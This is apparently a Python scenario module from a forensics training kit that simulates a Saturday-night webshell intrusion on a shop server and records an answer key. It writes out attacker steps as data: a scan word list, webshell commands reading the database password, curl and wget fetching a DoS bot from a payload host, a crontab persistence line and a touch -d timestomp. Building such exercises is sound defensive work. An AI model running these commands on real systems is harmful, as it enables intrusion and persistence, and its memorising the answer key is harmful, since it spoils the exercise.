"""The first incident, ``upload``: a webshell posted through the shop's unprotected upload form on a Saturday night.

Saturday 2026-11-21, 23:38–23:50: ``203.0.113.77`` scans the shop, POSTs a PHP
webshell to ``admin/upload.php`` (it lands as ``images/thumb_cache.php``), runs
commands through it, downloads a DoS bot from ``198.51.100.23`` into
``/tmp/.X11-cache/``, installs a ``www-data`` crontab that restarts it every five
minutes, drops a second, cookie-keyed backdoor among the shop's classes and sets
that file's mtime back to June with ``touch -d``. The crontab keeps firing and the
flood fills the connection table until the hosting provider cuts the server off
on Sunday 17:52; the disk is imaged at 21:40. Nothing is wiped: every trace is
still on the host.
"""

from __future__ import annotations

from breachkit.demo.content import blobs, clock, hostlog, system, traffic, web
from breachkit.demo.content.clock import MINUTE, MS, SECOND, local_ns
from breachkit.demo.intruder import Attack, Intruder, sha256
from breachkit.demo.parts.host_activity import cron_job
from breachkit.demo.story import Dates, Story
from breachkit.demo.truth import AttackerAddress, EntryPoint, MaliciousFile, Timestomp, Trace
from breachkit.demo.world import WWW, World, random_for

# the scan's word list as the shop answers it: (path, status)
_GOBUSTER = (
    ("/robots.txt", 200),
    ("/admin", 301),
    ("/admin/", 302),
    ("/backup", 404),
    ("/backup.zip", 404),
    ("/cgi-bin/", 403),
    ("/config.php", 404),
    ("/cron", 301),
    ("/css", 301),
    ("/db", 404),
    ("/.env", 404),
    ("/.git/HEAD", 404),
    ("/images", 301),
    ("/images/", 403),
    ("/includes", 301),
    ("/includes/", 403),
    ("/index.php", 200),
    ("/js", 301),
    ("/login.php", 404),
    ("/phpinfo.php", 404),
    ("/phpmyadmin", 404),
    ("/server-status", 403),
    ("/sitemap.xml", 200),
    ("/upload", 404),
    ("/upload.php", 404),
    ("/uploads", 404),
    ("/vendor", 404),
    ("/wp-admin", 404),
    ("/wp-login.php", 404),
    ("/.htaccess", 403),
    ("/admin/index.php", 302),
    ("/admin/login.php", 200),
    ("/admin/upload.php", 200),
    ("/admin/products.php", 302),
    ("/admin/orders.php", 302),
    ("/admin/config.php", 404),
    ("/admin/users.php", 404),
    ("/api", 404),
    ("/cart.php", 200),
    ("/checkout.php", 302),
    ("/test.php", 404),
    ("/tmp", 404),
    ("/var", 404),
    ("/includes/config.php", 200),
    ("/shell.php", 404),
)

# the attacker's user agents: a browser for a look, gobuster for the scan, curl for the webshell
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
GOBUSTER = "gobuster/3.6"
CURL = "curl/8.5.0"
SHELL_URL = "/images/thumb_cache.php"


def intrude(world: World) -> Attack:
    """Carry out the attack on the tree and in the shop's traffic; return what it did."""
    tree = world.tree
    attack = Attack()
    me = Intruder(world, attack, "attack", traffic.ATTACKER_IP, web.SHOP)
    rng, at = me.rng, me.at
    shop = web.docroot(web.SHOP)
    base = f"https://{web.SHOP}"

    def request(
        t: int, method: str, target: str, status: int, size: int, agent: str, purpose: str, ref: str = ""
    ) -> str:
        return me.request(t, method, target, status, size, agent, purpose, ref, cookies=agent == FIREFOX).line()

    def cmd(h: int, mi: int, s: int, command: str, purpose: str, output: int = 0) -> int:
        """One ?cmd= request; the response is headers, <pre>, the command's stdout, </pre>."""
        return me.command(SHELL_URL, "cmd", at(h, mi, s), command, purpose, output, CURL)

    # 1. directory scan
    t = at(23, 38, 4)
    attack.start = t
    for target, status in _GOBUSTER:
        size = {301: 338, 302: 251, 403: 281}.get(status, 2_611)
        if status == 200:
            node = tree.nodes.get(shop + target)
            size = 231  # a PHP file with no output (config.php): headers only
            if node is not None and not target.endswith(".php"):
                size = len(node.data) + 264
            elif target != "/includes/config.php":
                size = 3_000 + len(target) * 97 + rng.randrange(200)
        request(t, "GET", target, status, size, GOBUSTER, "directory scan")
        t += rng.randrange(90, 420) * MS
    # 2. a look at the form with a browser
    t = at(23, 40, 12)
    request(t, "GET", "/admin/upload.php", 200, 688, FIREFOX, "looks at the unprotected upload form")
    # 3. the upload: the webshell
    t_post = at(23, 41, 17)
    line = request(
        t_post, "POST", "/admin/upload.php", 200, 342, FIREFOX, "uploads the webshell", ref=f"{base}/admin/upload.php"
    )
    shell = f"{shop}{SHELL_URL}"
    # PHP spooled the upload to /tmp/phpXXXXXX while receiving it, then renamed it into images/
    born = t_post + rng.randrange(140, 420) * MS + tree.small()
    moved = born + rng.randrange(8, 40) * MS
    node = tree.write(shell, web.WEBSHELL, born, uid=WWW, gid=WWW, done=born + tree.small(80, 300), linked=moved)
    node.changes.append(moved + tree.small())  # chmod 0644 by move_uploaded_file
    tree.removed("/tmp", moved)
    attack.entry = EntryPoint(
        f"{base}/admin/upload.php",
        "POST",
        f"{shop}/admin/upload.php",
        "admin/upload.php checks neither the admin login (no require_login()) nor the file type; "
        "it keeps the client's file name, so a .php file lands in the web-served images/ folder",
        t_post,
        me.log_path,
        line,
        shell,
    )
    attack.malicious.append(
        MaliciousFile(
            shell,
            "webshell",
            "PHP webshell: ?cmd= runs shell commands, POST x= evaluates base64-encoded PHP",
            sha256(web.WEBSHELL),
            born,
        )
    )
    t = at(23, 41, 34)
    request(t, "GET", SHELL_URL, 200, 198, FIREFOX, "checks the webshell answers")
    cmd(23, 41, 52, "id", "who am I", 54)
    cmd(23, 42, 5, "uname -a", "system reconnaissance", 104)
    cmd(23, 42, 20, "ls -la", "lists images/", 2_874)
    tree.read(f"{shop}/images", at(23, 42, 20) + 30 * MS)
    t = cmd(
        23,
        42,
        41,
        "cat ../includes/config.php",
        "reads the shop's database password",
        len(tree.nodes[f"{shop}/includes/config.php"].data),
    )
    tree.read(f"{shop}/includes/config.php", t + 25 * MS)
    attack.traces.append(
        Trace(f"{shop}/includes/config.php", "read by the attacker (atime): database password exposed")
    )
    t = cmd(23, 43, 10, "ls -la /tmp", "looks for a writable place", 812)
    tree.read("/tmp", t + 30 * MS)
    t = cmd(23, 43, 26, "mkdir /tmp/.X11-cache", "hidden folder named like the X11 socket folder")
    hidden = "/tmp/.X11-cache"
    tree.mkdir(hidden, t + 31 * MS + tree.small(), WWW, WWW)
    attack.malicious.append(
        MaliciousFile(hidden, "hidden-dir", "hidden working folder of the DoS bot", "", tree.nodes[hidden].born)
    )
    t = cmd(
        23,
        43,
        40,
        f"cd /tmp/.X11-cache && wget http://{traffic.PAYLOAD_HOST_IP}/k.bin -O kworkerd",
        "download attempt fails: wget is not installed",
    )
    world.error_lines.setdefault(web.SHOP, []).append((t + 40 * MS, "sh: 1: wget: not found"))
    cmd(23, 44, 2, "which curl python3 perl", "looks for a download tool", 28)
    t = cmd(
        23,
        44,
        15,
        f"cd /tmp/.X11-cache && curl -s -o kworkerd http://{traffic.PAYLOAD_HOST_IP}/k.bin",
        "downloads the DoS bot",
    )
    bot = f"{hidden}/kworkerd"
    bot_data = blobs.elf("kworkerd", web.DOS_TOOL_STRINGS, 61_440, pie=False, static=True)
    born = t + 60 * MS + tree.small()
    tree.write(bot, bot_data, born, uid=WWW, gid=WWW, done=born + 870 * MS + tree.small())
    attack.malicious.append(
        MaliciousFile(
            bot,
            "dos-tool",
            "statically linked flooder (UDP/SYN/ACK/HTTP floods) controlled over IRC from "
            f"{traffic.PAYLOAD_HOST_IP}:6667",
            sha256(bot_data),
            born,
        )
    )
    t = cmd(23, 44, 31, "chmod +x /tmp/.X11-cache/kworkerd", "makes it executable")
    tree.nodes[bot].changes.append(t + 20 * MS + tree.small())
    tree.nodes[bot].mode = 0o755
    # launcher written through the eval channel
    t = at(23, 44, 58)
    request(t, "POST", SHELL_URL, 200, 231, CURL, "writes run.sh through eval(base64_decode())")
    attack.commands.append("file_put_contents('/tmp/.X11-cache/run.sh', ...)")
    launcher = f"{hidden}/run.sh"
    born = t + 15 * MS + tree.small()
    tree.write(launcher, web.RUN_SH, born, uid=WWW, gid=WWW)
    attack.malicious.append(
        MaliciousFile(launcher, "launcher", "restarts the bot if it is not running", sha256(web.RUN_SH), born)
    )
    t = cmd(23, 45, 7, "chmod 755 /tmp/.X11-cache/run.sh", "makes the launcher executable")
    tree.nodes[launcher].changes.append(t + 20 * MS + tree.small())
    tree.nodes[launcher].mode = 0o755
    cron_cmd = f"(crontab -l 2>/dev/null; echo '{web.CRON_LINE}') | crontab -"
    t = cmd(23, 45, 29, cron_cmd, "persistence: www-data crontab every five minutes")
    spool = "/var/spool/cron/crontabs/www-data"
    born = t + 48 * MS + tree.small()
    data = web.crontab_file(clock.ctime_text(born), (web.CRON_LINE,))
    node = tree.write(spool, data, born, uid=WWW, gid=system.GID_CRONTAB, mode=0o600, linked=born + 2 * MS)
    node.changes.append(born + 2 * MS + tree.small())
    attack.marks["crontab"] = born
    attack.malicious.append(
        MaliciousFile(spool, "persistence", f"www-data crontab: {web.CRON_LINE}", sha256(data), born)
    )
    world.log.sys(born + 3 * MS, f"crontab[{world.log.pid(born)}]", "(www-data) REPLACE (www-data)")
    t = cmd(23, 45, 44, "/tmp/.X11-cache/run.sh", "starts the bot")
    attack.marks["flood"] = t + 60 * MS
    tree.read(launcher, t + 20 * MS)
    tree.read(bot, t + 45 * MS)
    cmd(23, 46, 3, "ps aux | grep kworker", "checks the bot runs", 196)
    # second way in, written among the shop's classes, then timestomped
    t = at(23, 49, 12)
    request(t, "POST", SHELL_URL, 200, 231, CURL, "writes a second backdoor through eval()")
    attack.commands.append("file_put_contents('../includes/lib/ImageCache.php', ...)")
    backdoor = f"{shop}/includes/lib/ImageCache.php"
    born = t + 14 * MS + tree.small()
    node = tree.write(backdoor, web.BACKDOOR, born, uid=WWW, gid=WWW)
    attack.malicious.append(
        MaliciousFile(
            backdoor,
            "backdoor",
            "cookie-keyed eval backdoor disguised as a shop class (cookie __utmz_c, reversed base64)",
            sha256(web.BACKDOOR),
            born,
        )
    )
    t = at(23, 49, 30)
    request(t, "GET", "/includes/lib/ImageCache.php", 200, 198, CURL, "tests the backdoor (cookie not logged)")
    tree.read(backdoor, t + 9 * MS)
    t = cmd(23, 50, 2, "ls -la --time-style=full-iso ../includes/lib", "looks at the neighbours' dates", 486)
    tree.read(f"{shop}/includes/lib", t + 25 * MS)
    forged_text = "2026-06-14 10:22:31"
    t = cmd(23, 50, 21, f"touch -d '{forged_text}' ../includes/lib/ImageCache.php", "timestomps the backdoor")
    forged = local_ns(2026, 6, 14, 10, 22, 31)
    node.fixed_mtime = forged
    node.fixed_atime = forged
    node.reads.clear()
    touched = t + 22 * MS + tree.small()
    node.changes.append(touched)
    attack.timestomp = Timestomp(
        backdoor, forged, forged, node.born, touched, f"touch -d '{forged_text}' ../includes/lib/ImageCache.php"
    )
    t = cmd(23, 50, 40, "ls -la ../includes/lib", "checks the forged date", 331)
    tree.read(f"{shop}/includes/lib", t + 25 * MS)
    attack.end = t
    me.executed({"/tmp/.X11-cache/run.sh": ("pgrep",)})
    attack.traces.append(Trace(f"{shop}/images", "folder changed by the upload (mtime/ctime)"))
    attack.traces.append(
        Trace(
            f"{shop}/includes/lib",
            "folder changed when the backdoor was written: its mtime betrays the timestomped file",
        )
    )
    attack.traces.append(Trace("/var/spool/cron/crontabs", "folder changed when the crontab was installed"))
    attack.traces.append(Trace("/tmp", "folder changed by the upload's temporary file and by mkdir"))
    attack.traces.append(
        Trace(f"/var/log/apache2/{web.SHOP}_error.log.1", "holds 'sh: 1: wget: not found' from the failed download")
    )
    _facts(attack)
    return attack


def _facts(attack: Attack) -> None:
    """What the answer key says beyond the files: addresses, persistence, exposed secrets."""
    access = f"/var/log/apache2/{web.SHOP}_access.log.1"
    attack.addresses = [
        AttackerAddress(
            traffic.ATTACKER_IP,
            "web client",
            "scanned the shop, uploaded the webshell through admin/upload.php and sent commands through it",
            (access,),
        ),
        AttackerAddress(
            traffic.PAYLOAD_HOST_IP,
            "download and control host",
            "served the DoS bot and controls it over IRC on port 6667",
            (access, "/tmp/.X11-cache/run.sh", "/tmp/.X11-cache/kworkerd"),
        ),
    ]
    attack.payload_url = f"http://{traffic.PAYLOAD_HOST_IP}/k.bin"
    attack.c2 = f"{traffic.PAYLOAD_HOST_IP}:6667"
    attack.hidden_dirs = ["/tmp/.X11-cache"]
    attack.persistence = ["/var/spool/cron/crontabs/www-data"]
    attack.exposed_credentials = [
        f"MariaDB user 'shop' (DB_PASS in {web.docroot(web.SHOP)}/includes/config.php, read through the webshell)",
    ]


def aftermath(world: World, attack: Attack) -> None:
    """The crontab fires every five minutes and the flood fills the connection table until the cut."""
    log, tree = world.log, world.tree
    rng = random_for(world.seed, "aftermath")
    installed = attack.marks["crontab"]
    # cron notices the new crontab at the next minute
    reload_at = (installed // MINUTE + 1) * MINUTE + 700 * MS
    log.sys(reload_at, f"cron[{hostlog.CRON_DAEMON_PID}]", "(www-data) RELOAD (crontabs/www-data)")
    tree.read("/var/spool/cron/crontabs/www-data", reload_at + MS)
    t = (installed // (5 * MINUTE) + 1) * 5 * MINUTE + rng.randrange(60) * MS
    while t < world.dates.snapshot:
        cron_job(world, t, "www-data", WWW, "/tmp/.X11-cache/run.sh >/dev/null 2>&1", 25 * MS)
        tree.read("/tmp/.X11-cache/run.sh", t + 6 * MS)
        t += 5 * MINUTE + rng.randrange(60) * MS
    t = attack.marks["flood"] + 95 * SECOND
    while t < world.dates.network_cut + 20 * MINUTE:
        log.kernel(t, "nf_conntrack: nf_conntrack: table full, dropping packet")
        log.kernel(t + 5 * SECOND, f"net_ratelimit: {rng.randrange(200, 4_000)} callbacks suppressed")
        t += rng.randrange(2 * MINUTE, 14 * MINUTE)


STORY = Story(
    name="upload",
    summary=(
        "Saturday night a PHP webshell is posted through the shop's unprotected admin/upload.php; through it the "
        "attacker downloads a DoS bot, keeps it running with a www-data crontab and hides a timestomped backdoor. "
        "Nothing is wiped."
    ),
    dates=Dates(
        attack_day=(2026, 11, 21),
        admins_until=local_ns(2026, 11, 21, 23, 38, 4),
        network_cut=local_ns(2026, 11, 22, 17, 52, 13),
        snapshot=local_ns(2026, 11, 22, 21, 40, 0),
        cache_preload=local_ns(2026, 11, 21, 23, 30, 7),
        owner_photo=local_ns(2026, 11, 21, 15, 41, 52),
        owner_photo_name="IMG_20261121_153817.jpg",
    ),
    intrude=intrude,
    aftermath=aftermath,
)
